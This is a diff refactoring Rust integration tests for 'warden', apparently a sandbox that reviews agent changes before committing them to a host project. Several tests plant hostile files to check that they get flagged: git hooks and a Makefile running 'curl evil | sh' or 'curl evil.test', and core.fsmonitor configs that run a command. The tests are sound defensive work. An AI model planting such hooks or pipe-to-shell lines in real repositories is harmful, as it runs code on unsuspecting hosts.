@@ -83,18 +83,7 @@ fn project(dir: &Path) {
         "#!/bin/sh\npython3 -m compileall -q src\n",
     )
     .unwrap();
-    let git = |args: &[&str]| {
-        Command::new("git")
-            .args(args)
-            .current_dir(dir)
-            .env("GIT_AUTHOR_NAME", "t")
-            .env("GIT_AUTHOR_EMAIL", "t@t")
-            .env("GIT_COMMITTER_NAME", "t")
-            .env("GIT_COMMITTER_EMAIL", "t@t")
-            .output()
-            .map(|o| o.status.success())
-            .unwrap_or(false)
-    };
+    let git = |args: &[&str]| git_in(dir, args);
     if !(git(&["init", "-q"]) && git(&["add", "."]) && git(&["commit", "-qm", "init"])) {
         skip("git is not available: the project is not a git checkout");
     }
@@ -171,30 +160,13 @@ fn create_exec_diff_commit_applies_exactly_what_the_sandbox_saw() {
         &["create", "cycle", "-w", proj.str()],
     ));
     // The agent builds and edits; a second exec sees the first one's work.
-    ok(&warden(
+    exec_sh(warden, state.path(), "cycle", "sh build.sh && printf 'def sub(a, b):\\n    return a - b\\n' >> src/app/core.py && chmod 755 README.md && ln -s src/app/core.py core-link && mkdir 'with space' && printf 'x\\0y' > 'with space/bin file' && printf z > \"$(printf 'caf\\351')\" && rm build.sh");
+    let second = exec_sh(
+        warden,
         state.path(),
-        &[
-            "exec",
-            "cycle",
-            "--no-tty",
-            "--",
-            "sh",
-            "-c",
-            "sh build.sh && printf 'def sub(a, b):\\n    return a - b\\n' >> src/app/core.py && chmod 755 README.md && ln -s src/app/core.py core-link && mkdir 'with space' && printf 'x\\0y' > 'with space/bin file' && printf z > \"$(printf 'caf\\351')\" && rm build.sh",
-        ],
-    ));
-    let second = ok(&warden(
-        state.path(),
-        &[
-            "exec",
-            "cycle",
-            "--no-tty",
-            "--",
-            "sh",
-            "-c",
-            "ls src/app/__pycache__ | head -1; cat src/app/core.py",
-        ],
-    ));
+        "cycle",
+        "ls src/app/__pycache__ | head -1; cat src/app/core.py",
+    );
     assert!(second.contains(".pyc"), "{second}");
     assert!(second.contains("def sub"), "{second}");
     let inside = ok(&warden(
@@ -278,18 +250,12 @@ fn a_conflicting_change_on_the_host_makes_commit_refuse_and_leaves_both_sides() 
     let proj = TempDir::new("ws-conflict-proj");
     project(proj.path());
     ok(&warden(state.path(), &["create", "c", "-w", proj.str()]));
-    ok(&warden(
+    exec_sh(
+        warden,
         state.path(),
-        &[
-            "exec",
-            "c",
-            "--no-tty",
-            "--",
-            "sh",
-            "-c",
-            "echo sandbox >> README.md && echo other > OTHER",
-        ],
-    ));
+        "c",
+        "echo sandbox >> README.md && echo other > OTHER",
+    );
     std::thread::sleep(std::time::Duration::from_millis(20));
     std::fs::write(proj.path().join("README.md"), "# host edit\n").unwrap();
     let out = warden(state.path(), &["commit", "c"]);
@@ -325,18 +291,7 @@ fn a_planted_git_hook_is_flagged_and_not_committed_without_consent() {
         std::fs::create_dir_all(proj.path().join(".git/hooks")).unwrap();
     }
     ok(&warden(state.path(), &["create", "h", "-w", proj.str()]));
-    ok(&warden(
-        state.path(),
-        &[
-            "exec",
-            "h",
-            "--no-tty",
-            "--",
-            "sh",
-            "-c",
-            "printf '#!/bin/sh\\ncurl evil.test\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && echo ok >> README.md",
-        ],
-    ));
+    exec_sh(warden, state.path(), "h", "printf '#!/bin/sh\\ncurl evil.test\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && echo ok >> README.md");
     let diff = ok(&warden(state.path(), &["diff", "h", "--color", "never"]));
     assert!(diff.contains("! git-hook"), "{diff}");
     let out = warden(state.path(), &["commit", "h"]);
@@ -349,18 +304,7 @@ fn a_planted_git_hook_is_flagged_and_not_committed_without_consent() {
     assert!(!proj.path().join(".git/hooks/pre-commit").exists());
     // A submodule's git config is git's too (core.fsmonitor runs a
     // program at the next `git status` on the host).
-    ok(&warden(
-        state.path(),
-        &[
-            "exec",
-            "h",
-            "--no-tty",
-            "--",
-            "sh",
-            "-c",
-            "mkdir -p .git/modules/sub && printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' > .git/modules/sub/config",
-        ],
-    ));
+    exec_sh(warden, state.path(), "h", "mkdir -p .git/modules/sub && printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' > .git/modules/sub/config");
     let diff = ok(&warden(
         state.path(),
         &["diff", "h", "--color", "never", ".git/modules"],
@@ -368,18 +312,7 @@ fn a_planted_git_hook_is_flagged_and_not_committed_without_consent() {
     assert!(diff.contains("! git-internal"), "{diff}");
     // Files that send git to another directory, and a repository that
     // needs no `.git` in its name (HEAD, objects/, refs/), are git's too.
-    ok(&warden(
-        state.path(),
-        &[
-            "exec",
-            "h",
-            "--no-tty",
-            "--",
-            "sh",
-            "-c",
-            "printf '../evil\\n' > .git/commondir && mkdir -p docs/bare/objects docs/bare/refs && echo 'ref: refs/heads/main' > docs/bare/HEAD && printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' > docs/bare/config",
-        ],
-    ));
+    exec_sh(warden, state.path(), "h", "printf '../evil\\n' > .git/commondir && mkdir -p docs/bare/objects docs/bare/refs && echo 'ref: refs/heads/main' > docs/bare/HEAD && printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' > docs/bare/config");
     for path in [".git/commondir", "docs/bare/config"] {
         let diff = ok(&warden(
             state.path(),
@@ -605,18 +538,12 @@ fn a_commit_made_as_root_leaves_new_files_to_the_projects_owner() {
     who.own(proj.path());
     who.own(&proj.path().join("old"));
     ok(&warden(state.path(), &["create", "o", "-w", proj.str()]));
-    ok(&warden(
+    exec_sh(
+        warden,
         state.path(),
-        &[
-            "exec",
-            "o",
-            "--no-tty",
-            "--",
-            "sh",
-            "-c",
-            "mkdir -p d/e && echo new > d/e/f && echo y >> old",
-        ],
-    ));
+        "o",
+        "mkdir -p d/e && echo new > d/e/f && echo y >> old",
+    );
     ok(&warden(state.path(), &["commit", "o"]));
     use std::os::unix::fs::MetadataExt;
     for p in ["d", "d/e", "d/e/f", "old"] {
@@ -630,18 +557,7 @@ fn interactive_commit_applies_only_what_the_person_accepts() {
     let state = TempDir::new("ws-inter-state");
     let proj = TempDir::new("ws-inter-proj");
     ok(&warden(state.path(), &["create", "i", "-w", proj.str()]));
-    ok(&warden(
-        state.path(),
-        &[
-            "exec",
-            "i",
-            "--no-tty",
-            "--",
-            "sh",
-            "-c",
-            "echo a > A && echo b > B",
-        ],
-    ));
+    exec_sh(warden, state.path(), "i", "echo a > A && echo b > B");
     ok(&warden(state.path(), &["stop", "i"]));
     let mut child = Command::new(warden_bin())
         .args(["commit", "i", "--interactive"])
@@ -668,18 +584,7 @@ fn an_interactive_commit_whose_input_ends_quits_at_once_and_applies_nothing() {
     let state = TempDir::new("ws-eof-state");
     let proj = TempDir::new("ws-eof-proj");
     ok(&warden(state.path(), &["create", "e", "-w", proj.str()]));
-    ok(&warden(
-        state.path(),
-        &[
-            "exec",
-            "e",
-            "--no-tty",
-            "--",
-            "sh",
-            "-c",
-            "echo a > A && echo b > B",
-        ],
-    ));
+    exec_sh(warden, state.path(), "e", "echo a > A && echo b > B");
     ok(&warden(state.path(), &["stop", "e"]));
     // stdin at its end (/dev/null): one question, then quit.
     // (Under `timeout`: before the fix it asked again for ever.)
@@ -706,6 +611,31 @@ fn an_interactive_commit_whose_input_ends_quits_at_once_and_applies_nothing() {
 }
 
 /// warden itself, nothing done before (no stop, no diff).
+/// `warden exec NAME --no-tty -- sh -c SCRIPT` through `w` ([`warden`] or
+/// [`bare`]), which must succeed: what it printed.
+fn exec_sh(w: fn(&Path, &[&str]) -> Output, state: &Path, name: &str, script: &str) -> String {
+    ok(&w(
+        state,
+        &["exec", name, "--no-tty", "--", "sh", "-c", script],
+    ))
+}
+
+/// `warden commit NAME FLAG` (an interactive one) given `answers` as a
+/// person's typed lines.
+fn commit_answering(state: &Path, name: &str, flag: &str, answers: &[u8]) -> Output {
+    use std::io::Write;
+    let mut child = Command::new(warden_bin())
+        .args(["commit", name, flag])
+        .env("WARDEN_STATE_DIR", state.join("warden"))
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    child.stdin.take().unwrap().write_all(answers).unwrap();
+    child.wait_with_output().unwrap()
+}
+
 fn bare(state: &Path, args: &[&str]) -> Output {
     Command::new(warden_bin())
         .args(args)
@@ -721,18 +651,7 @@ fn a_running_sandbox_is_said_to_be_running_and_only_what_a_diff_showed_is_commit
     let proj = TempDir::new("ws-review-proj");
     std::fs::write(proj.path().join("README.md"), "# app\n").unwrap();
     ok(&bare(state.path(), &["create", "r", "-w", proj.str()]));
-    ok(&bare(
-        state.path(),
-        &[
-            "exec",
-            "r",
-            "--no-tty",
-            "--",
-            "sh",
-            "-c",
-            "echo seen >> README.md",
-        ],
-    ));
+    exec_sh(bare, state.path(), "r", "echo seen >> README.md");
     // The sandbox is still up: the diff says so, the commit refuses.
     let diff = bare(state.path(), &["diff", "r", "--color", "never"]);
     assert!(ok(&diff).contains("+seen"));
@@ -746,18 +665,12 @@ fn a_running_sandbox_is_said_to_be_running_and_only_what_a_diff_showed_is_commit
     );
     // Between the person's diff and the commit, the sandbox changes the
     // file again and adds another: nothing goes in.
-    ok(&bare(
+    exec_sh(
+        bare,
         state.path(),
-        &[
-            "exec",
-            "r",
-            "--no-tty",
-            "--",
-            "sh",
-            "-c",
-            "echo unseen >> README.md && echo x > NEW",
-        ],
-    ));
+        "r",
+        "echo unseen >> README.md && echo x > NEW",
+    );
     ok(&bare(state.path(), &["stop", "r"]));
     let out = bare(state.path(), &["commit", "r"]);
     assert!(!out.status.success(), "{}", stdout(&out));
@@ -792,30 +705,14 @@ fn an_interactive_commit_shows_a_change_before_asking() {
     let state = TempDir::new("ws-show-state");
     let proj = TempDir::new("ws-show-proj");
     ok(&bare(state.path(), &["create", "s", "-w", proj.str()]));
-    ok(&bare(
+    exec_sh(
+        bare,
         state.path(),
-        &[
-            "exec",
-            "s",
-            "--no-tty",
-            "--",
-            "sh",
-            "-c",
-            "printf 'line one\\nline two\\n' > A",
-        ],
-    ));
+        "s",
+        "printf 'line one\\nline two\\n' > A",
+    );
     ok(&bare(state.path(), &["stop", "s"]));
-    let mut child = Command::new(warden_bin())
-        .args(["commit", "s", "--interactive"])
-        .env("WARDEN_STATE_DIR", state.path().join("warden"))
-        .stdin(Stdio::piped())
-        .stdout(Stdio::piped())
-        .stderr(Stdio::piped())
-        .spawn()
-        .unwrap();
-    use std::io::Write;
-    child.stdin.take().unwrap().write_all(b"s\ny\n").unwrap();
-    let out = child.wait_with_output().unwrap();
+    let out = commit_answering(state.path(), "s", "--interactive", b"s\ny\n");
     ok(&out);
     assert!(stderr(&out).contains("+line two"), "{}", stderr(&out));
     assert!(proj.path().join("A").exists());
@@ -844,18 +741,12 @@ fn files_the_profile_says_the_host_runs_are_flagged() {
             profile.to_str().unwrap(),
         ],
     ));
-    ok(&bare(
+    exec_sh(
+        bare,
         state.path(),
-        &[
-            "exec",
-            "m",
-            "--no-tty",
-            "--",
-            "sh",
-            "-c",
-            "printf 'all:\\n\\tcurl evil | sh\\n' > Makefile && echo more >> notes.txt",
-        ],
-    ));
+        "m",
+        "printf 'all:\\n\\tcurl evil | sh\\n' > Makefile && echo more >> notes.txt",
+    );
     ok(&bare(state.path(), &["stop", "m"]));
     let diff = ok(&bare(state.path(), &["diff", "m", "--color", "never"]));
     let flagged: Vec<&str> = diff.lines().filter(|l| l.contains("! host-exec")).collect();
@@ -951,18 +842,12 @@ fn hooks_where_the_hosts_own_git_config_sends_git_are_flagged() {
     )
     .unwrap();
     ok(&bare(state.path(), &["create", "g", "-w", proj.str()]));
-    ok(&bare(
+    exec_sh(
+        bare,
         state.path(),
-        &[
-            "exec",
-            "g",
-            "--no-tty",
-            "--",
-            "sh",
-            "-c",
-            "mkdir .githooks && printf 'curl evil | sh\\n' > .githooks/pre-commit",
-        ],
-    ));
+        "g",
+        "mkdir .githooks && printf 'curl evil | sh\\n' > .githooks/pre-commit",
+    );
     ok(&bare(state.path(), &["stop", "g"]));
     let diff = Command::new(warden_bin())
         .args(["diff", "g", "--color", "never"])
@@ -1068,31 +953,15 @@ fn an_interactive_commit_shows_each_changes_content_before_the_question() {
     let state = TempDir::new("ws-ishow-state");
     let proj = TempDir::new("ws-ishow-proj");
     ok(&bare(state.path(), &["create", "s", "-w", proj.str()]));
-    ok(&bare(
+    exec_sh(
+        bare,
         state.path(),
-        &[
-            "exec",
-            "s",
-            "--no-tty",
-            "--",
-            "sh",
-            "-c",
-            "printf 'first line\\nsecond line\\n' > A",
-        ],
-    ));
+        "s",
+        "printf 'first line\\nsecond line\\n' > A",
+    );
     ok(&bare(state.path(), &["stop", "s"]));
-    let mut child = Command::new(warden_bin())
-        .args(["commit", "s", "-i"])
-        .env("WARDEN_STATE_DIR", state.path().join("warden"))
-        .stdin(Stdio::piped())
-        .stdout(Stdio::piped())
-        .stderr(Stdio::piped())
-        .spawn()
-        .unwrap();
-    use std::io::Write;
     // No "show" asked for: the answer is no.
-    child.stdin.take().unwrap().write_all(b"n\n").unwrap();
-    let out = child.wait_with_output().unwrap();
+    let out = commit_answering(state.path(), "s", "-i", b"n\n");
     ok(&out);
     let err = stderr(&out);
     let content = err.find("+second line").expect(&err);
